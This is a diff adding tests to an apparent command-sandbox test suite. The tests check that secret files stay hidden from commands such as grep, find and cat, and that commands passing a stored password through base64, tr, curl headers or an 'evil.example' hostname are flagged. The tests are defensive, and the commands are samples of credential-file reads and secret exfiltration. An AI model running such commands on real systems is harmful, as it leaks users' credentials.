@@ -90,6 +90,46 @@ describe.runIf(sandbox !== null)('a careful machine', () => {
     }
   });
 
+  it('hides them below every folder that the command names, wherever it runs, and keys as well', async () => {
+    const [folder, conf] = [join(at, 'project'), join(at, 'project/conf')];
+    mkdirSync(conf, { recursive: true });
+    writeFileSync(join(folder, '.env'), 'ODD=swordfish-2\n');
+    for (const name of ['secrets.yml', 'server.key', 'credentials.json', 'terraform.tfstate'])
+      writeFileSync(join(conf, name), 'swordfish-3\n');
+    symlinkSync(join(folder, '.env'), join(at, 'linked'));
+    writeFileSync(join(folder, 'open'), 'to be read\n');
+    for (const command of [
+      `grep -rh . ${folder}`,
+      `find ${folder} -type f -exec cat {} +`,
+      `cat ${conf}/*`,
+      `cat ${join(at, 'linked')}`,
+      `tar cf - ${folder} | strings`,
+    ]) {
+      const { stdout, stderr = '', status } = await run(command, { cwd: '/usr' });
+      expect({ command, status, private: /swordfish/.test(stdout + stderr) }).toEqual({
+        command,
+        status: 'done',
+        private: false,
+      });
+    }
+    expect((await run(`grep -rh . ${folder}`, { cwd: '/usr' })).stdout).toContain('to be read');
+  });
+
+  it('asks about a read that is handed a secret, unless a client logs in with it', async () => {
+    await service.call('PUT', '/synapse/secrets/PASSWORD', { token: user.session, body: { value: 'Zq7kWm2xVeLp' } });
+    for (const command of [
+      'printf %s "{{PASSWORD}}" | tr a-y b-z',
+      'echo {{PASSWORD}} | base64 | rev',
+      'ss -t dst {{PASSWORD}}.evil.example',
+      'curl -s -H "X: {{PASSWORD}}" http://127.0.0.1:9/',
+      'X={{PASSWORD}}; expr substr "$X" 1 4',
+    ]) {
+      expect({ command, ...(await explain(command)) }).toMatchObject({ command, verdict: 'ask' });
+    }
+    const client = await explain('PGPASSWORD={{PASSWORD}} psql -h localhost -U app -c "select 1"');
+    expect(client).toMatchObject({ verdict: 'allow', enforced: null });
+  });
+
   it('lets no named pipe be written to', async () => {
     const reader = killAtEnd(spawn('sh', ['-c', `exec 3<>${at}/pipe; cat <&3 >${at}/piped`]));
     await put('default: open');
